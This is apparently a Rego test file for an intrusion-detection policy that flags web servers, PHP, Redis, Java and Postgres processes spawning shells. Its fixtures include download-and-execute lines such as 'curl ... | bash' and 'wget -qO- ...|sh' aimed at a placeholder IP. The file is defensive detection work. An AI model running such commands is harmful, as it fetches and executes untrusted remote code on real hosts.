package sentinel.web_server_shell_test

import data.sentinel.fixtures as fx
import data.sentinel.web_server_shell.alert
import data.sentinel.web_server_shell.deny

test_nginx_starts_a_shell if {
	deny == {"/usr/sbin/nginx starts the shell /usr/bin/dash"} with input as fx.exec("/usr/sbin/nginx", "/usr/bin/dash", ["sh", "-c", "id"])
}

test_nginx_starts_a_busybox_shell if {
	count(deny) == 1 with input as fx.exec("/usr/sbin/nginx", "/bin/busybox", ["sh", "-c", "id"])
}

test_upgraded_nginx_starts_a_shell if {
	count(deny) == 1 with input as fx.exec("/usr/sbin/nginx (deleted)", "/usr/bin/bash", ["bash"])
}

test_nginx_upgrades_itself if {
	count(deny | alert) == 0 with input as fx.exec("/usr/sbin/nginx", "/usr/sbin/nginx", ["nginx"])
}

test_shell_starts_nginx if {
	count(deny | alert) == 0 with input as fx.exec("/usr/bin/dash", "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"])
}

test_apache_starts_a_shell if {
	count(deny) == 0 with input as fx.exec("/usr/sbin/apache2", "/usr/bin/dash", ["sh", "-c", "id"])
	count(alert) == 1 with input as fx.exec("/usr/sbin/apache2", "/usr/bin/dash", ["sh", "-c", "id"])
}

test_apache_reaches_a_shell_through_env if {
	count(alert) == 1 with input as fx.started_by(fx.exec("/usr/bin/env", "/usr/bin/bash", ["bash"]), "/usr/sbin/apache2", ["apache2"])
}

test_cgi_binary_passes if {
	count(deny | alert) == 0 with input as fx.exec("/usr/sbin/apache2", "/usr/lib/cgi-bin/counter", ["counter"])
}

test_php_starts_a_shell if {
	count(alert) == 1 with input as fx.exec("/usr/sbin/php-fpm8.2", "/usr/bin/dash", ["sh", "-c", "sendmail -t -i"])
}

test_php_on_the_command_line_passes if {
	count(alert) == 0 with input as fx.exec("/usr/bin/php8.2", "/usr/bin/dash", ["sh", "-c", "stty size"])
}

test_redis_starts_a_shell if {
	count(alert) == 1 with input as fx.exec("/usr/bin/redis-server", "/usr/bin/dash", ["sh", "-c", "id"])
}

test_java_runs_a_download if {
	count(alert) == 1 with input as fx.exec("/usr/lib/jvm/java-17/bin/java", "/usr/bin/bash", ["bash", "-c", "curl -s http://203.0.113.7/x | bash"])
}

test_postgres_runs_a_download if {
	count(alert) == 1 with input as fx.exec("/usr/lib/postgresql/15/bin/postgres", "/usr/bin/dash", ["sh", "-c", "wget -qO- http://203.0.113.7/x|sh"])
}

test_java_build_step_passes if {
	count(alert) == 0 with input as fx.exec("/usr/lib/jvm/java-17/bin/java", "/usr/bin/bash", ["bash", "-c", "git rev-parse HEAD"])
}

test_download_by_hand_passes if {
	count(alert) == 0 with input as fx.exec("/usr/bin/bash", "/usr/bin/dash", ["sh", "-c", "curl https://example.com/install | sh"])
}
